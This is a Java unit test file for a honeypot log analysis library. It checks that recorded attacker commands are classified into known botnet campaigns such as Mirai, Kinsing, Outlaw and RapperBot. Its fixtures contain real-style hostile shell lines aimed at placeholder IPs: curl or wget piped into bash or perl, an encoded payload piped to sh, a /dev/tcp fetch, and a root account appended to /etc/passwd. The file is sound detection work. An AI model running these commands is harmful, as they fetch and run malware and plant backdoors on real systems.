package io.github.cowriekit.analysis.internal.playbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.cowriekit.analysis.Analysis;
import io.github.cowriekit.analysis.AnalysisDataException;
import io.github.cowriekit.analysis.CampaignSignatures;
import io.github.cowriekit.analysis.Sessions;
import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.TerminalSize;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.model.assessment.CampaignKind;
import io.github.cowriekit.model.assessment.CampaignMatch;
import io.github.cowriekit.model.assessment.Playbook;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CampaignsTest {
    private static final Analysis ANALYSIS = Analysis.standard();
    private static final String HEADING = "campaign\tkind\twhere\tmark\tneeds\tunless\tfirst\tlast\tsource\n";

    @TempDir
    private Path folder;

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "cd ~; chattr -ia .ssh; lockr -ia .ssh   ! outlaw-mdrfckr",
                "wget -qO - 192.0.2.7/csx/perlNIK|perl   ! shellbot",
                "cd /tmp; mkdir .X25-unix                ! outlaw-mdrfckr",
                "sudo nohup ./kinsing &                  ! kinsing",
                "sh -c 'curl -o /tmp/kdevtmpfsi http://192.0.2.7/k' ! kinsing",
                "echo Y3VybCBodHRwOi8vMTkyLjAuMi43L2tpbnNpbmc= | base64 -d | sh ! kinsing",
                "/bin/busybox FGZNH                      ! mirai",
                "cd /tmp; /bin/busybox mirai             ! mirai",
                "/bin/busybox corona                     ! mirai",
                "/bin/busybox kira; busybox OWARI        ! mirai",
                "/bin/busybox josh0                      ! mirai",
                "cd /tmp/.X25-unix/.rsync/c; nohup ./tsm -t 150 & ! outlaw-mdrfckr",
                "busybox tftp -g -l x -r Mozi.a 192.0.2.3 ! mozi",
                "cd /tmp; mkdir .X19-unix                ! outlaw-mdrfckr",
                "nohup /tmp/.X17-unix/.rsync/c/tsm -t 150 & ! outlaw-mdrfckr",
                "echo 321 > /var/tmp/.var03522123        ! outlaw-mdrfckr",
                "mkdir /var/tmp/.systemcache436621       ! outlaw-mdrfckr",
                "/bin/busybox hostname FICORA            ! mirai",
                "hostname TBOT                           ! mirai",
                "./x telnet.arm7                         ! mirai",
                "exec 5<>/dev/tcp/192.0.2.9/60110; echo -n 'GET /linux' >&5 ! p2pinfect",
                "wget -O /tmp/pty3 http://192.0.2.9/x; /tmp/pty3 ! muhstik",
                "cp ./m /bin/dhpcd; dhpcd                ! dhpcd",
                "(curl -fsSL 192.0.2.9/ldr.sh||wget -q -O - 192.0.2.9/ldr.sh)|bash ! sysrv",
                "curl -s http://192.0.2.9/xms | bash -sh ! 8220",
                "echo 'suhelper:x:0:0::/:/bin/sh' >> /etc/passwd ! rapperbot",
                "echo 'suhelper:x:0:0::/:/bin/sh' | tee -a /etc/passwd ! rapperbot",
                "grep suhelper:x /etc/passwd || sed -i '$ a suhelper:x:0:0::/:/bin/sh' /etc/passwd ! rapperbot",
                "export AAZHDE=1; grep AAZHDE= /proc/self/environ ! perfctl",
                "AAZHDE=1 ./httpd                        ! perfctl",
                "rm -f .i; cp .s .i; ls .s               ! hajime",
                "sh tftp1.sh; sh tftp2.sh; sh ftp1.sh    ! gafgyt",
            })
    void namesKnownCampaigns(String command, String campaign) {
        Playbook playbook = of(command);

        assertThat(playbook.campaigns()).extracting(CampaignMatch::name).containsExactly(campaign);
        assertThat(playbook.family()).contains(campaign);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "Enter new UNIX password:                ! HABIT ! passwd-prompt",
                "echo SSHCHK_0123456789ab_BEGIN          ! PROBE ! sshchk-beacon",
                "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\" ! PROBE ! auth-ok-beacon",
                "uname -s -v -n -r -m                    ! PROBE ! minimal-scanner",
                "/bin/./uname -s -v -n -r -m             ! PROBE ! minimal-scanner",
                "ls -la ~/.local/share/TelegramDesktop/tdata ! TOOL ! telegram-sms-hunter",
                "linuxshell                              ! HABIT ! linuxshell-menu",
                "wget http://192.0.2.7:283/x             ! HABIT ! four-second-dropper",
                "echo xsec                               ! TOOL ! echo-xsec",
                "wget http://192.0.2.7/meow              ! HABIT ! meow-dropper",
                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! HABIT ! perl-zed-dropper",
                "/gweerwe323f                            ! PROBE ! gweerwe323f",
            })
    void tellsToolsProbesAndHabitsApart(String command, CampaignKind kind, String name) {
        Playbook playbook = of(command);

        assertThat(playbook.tools()).extracting(CampaignMatch::name).containsExactly(name);
        assertThat(playbook.tools()).extracting(CampaignMatch::kind).containsExactly(kind);
        assertThat(playbook.campaigns()).isEmpty();
        assertThat(playbook.family()).isEmpty();
    }

    @Test
    void tellsHajimeFromMirai() {
        Playbook playbook = of(
                "cat /proc/mounts; /bin/busybox QWZRT",
                "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox QWZRT",
                "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
                "/bin/busybox QWZRT");

        assertThat(playbook.campaigns()).extracting(CampaignMatch::name).containsExactly("hajime");
        assertThat(playbook.campaigns().get(0).kind()).isEqualTo(CampaignKind.WORM);
    }

    @Test
    void namesCampaignsByOtherMarks() {
        assertThat(of("echo ssh-rsa " + "A".repeat(44) + " mdrfckr").family()).contains("outlaw-mdrfckr");
        assertThat(of(downloaded("a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2"))
                        .family())
                .contains("outlaw-mdrfckr");
        assertThat(of(uploaded("redtail.arm7")).family()).contains("redtail");
        assertThat(of(uploaded("/tmp/.X25-unix/dota3.tar.gz")).campaigns())
                .singleElement()
                .extracting(CampaignMatch::marks)
                .asInstanceOf(org.assertj.core.api.InstanceOfAssertFactories.LIST)
                .hasSize(3);
        assertThat(of(Sessions.ran()
                                .downloads(List.of(Download.builder(FileOrigin.URL)
                                        .url("http://192.0.2.7:9000/Mozi.m")
                                        .build()))
                                .build())
                        .family())
                .contains("mozi");
        assertThat(of(Sessions.ran()
                                .logins(List.of(Sessions.login("pi", "3245gs5662d34", false)))
                                .build())
                        .tools())
                .containsExactly(new CampaignMatch(
                        "345gs5662d34",
                        CampaignKind.PROBE,
                        List.of("credential *:3245gs5662d34"),
                        "public logs and honeypot reports; same minute as mdrfckr, what it is for is disputed"));
    }

    @Test
    void namesClientsByWhatTheySend() {
        assertThat(all(of(client("SSH-2.0-Go", new TerminalSize(40, 80))))).containsExactly("go-swapped-terminal");
        assertThat(all(of(client("b'SSH-2.0-Go'", new TerminalSize(40, 80))))).containsExactly("go-swapped-terminal");
        assertThat(all(of(client("SSH-2.0-Go", new TerminalSize(80, 24))))).isEmpty();
        assertThat(of(client("SSH-2.0-HELLOWORLD", null)).family()).contains("rapperbot");
        assertThat(of(client("'SSH-2.0-HELLOWORLD'", null)).family()).contains("rapperbot");
        assertThat(all(of(client("SSH-2.0-HELLOWORLD2", null)))).isEmpty();
    }

    @Test
    @Tag("slow")
    void standsLinesThatHoldEveryWordOfTheMarks() {
        String words = String.join(
                " ",
                CampaignSignatures.standard()
                        .text()
                        .lines()
                        .skip(1)
                        .map(row -> row.split("\t", -1)[4].replace("|", " "))
                        .toList());
        String[] hostile = {
            (words + "; ").repeat(60),
            ("sudo " + words + " ").repeat(60),
            ("tar " + "a".repeat(500) + " ;cat x | sh; ").repeat(200) + words,
            "/system scheduler add " + "on-event=/tool fetch ".repeat(4_000) + words,
            ("$(" + words).repeat(40),
        };

        assertThat(of(hostile).lines()).isEqualTo(hostile.length);
    }

    @Test
    void readsSignaturesOfTheUser() throws IOException {
        Path file = folder.resolve("campaigns.tsv");
        Files.writeString(file, HEADING + "mine\tfamily\tline\t^hello (world|moon)$\thello\t-\t2026\t-\tme\n");
        CampaignSignatures signatures = CampaignSignatures.load(file);
        Analysis own = Analysis.builder().campaigns(signatures).build();

        assertThat(Objects.requireNonNull(
                                own.assess(Sessions.ran("hello moon").build()).playbook())
                        .family())
                .contains("mine");
        assertThat(signatures.text()).isEqualTo(Files.readString(file));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "family ! somewhere  ! x        ! where must be one of run, written, fetched",
                "gang   ! line       ! x        ! kind must be one of family, worm, tool",
                "family ! line       ! (x       ! no regular expression of RE2",
                "family ! run        ! x*       ! fits everything",
                "family ! file       ! 12       ! must be a SHA-256",
                "family ! key        ! SHA256:x ! must look like SHA256:",
                "family ! credential ! x        ! must be user:password",
                "family ! client     ! x        ! Go narrower than high",
            })
    void rejectsSignaturesThatMakeNoSense(String kind, String where, String mark, String why) throws IOException {
        assertRejected("mine\t" + kind + "\t" + where + "\t" + mark + "\t-\t-\t-\t-\tme\n", 2, why);
    }

    @Test
    void rejectsOneNameOfTwoKinds() throws IOException {
        String row = "mine\tfamily\tline\tx\t-\t-\t-\t-\tme\n";

        assertRejected(row + row.replace("family", "probe"), 3, "kind of mine was family before");
    }

    private void assertRejected(String rows, int line, String why) throws IOException {
        Path file = folder.resolve("campaigns.tsv");
        Files.writeString(file, HEADING + rows);

        assertThatThrownBy(() -> CampaignSignatures.load(file))
                .isInstanceOf(AnalysisDataException.class)
                .hasMessageStartingWith("campaigns.tsv line " + line + ": ")
                .hasMessageContaining(why);
    }

    private static Session downloaded(String sha256) {
        return Sessions.ran()
                .downloads(List.of(
                        Download.builder(FileOrigin.REDIRECT).sha256(sha256).build()))
                .build();
    }

    private static Session uploaded(String filename) {
        return Sessions.ran()
                .uploads(List.of(
                        Upload.builder(FileOrigin.SFTP).filename(filename).build()))
                .build();
    }

    private static Session client(String version, @org.jspecify.annotations.Nullable TerminalSize terminal) {
        return Sessions.ran()
                .client(new Client(version, null, terminal, List.of()))
                .build();
    }

    private static List<String> all(Playbook playbook) {
        return Stream.concat(playbook.campaigns().stream(), playbook.tools().stream())
                .map(CampaignMatch::name)
                .toList();
    }

    private static Playbook of(String... commands) {
        return of(Sessions.ran(commands).build());
    }

    private static Playbook of(Session session) {
        return Objects.requireNonNull(ANALYSIS.assess(session).playbook());
    }
}
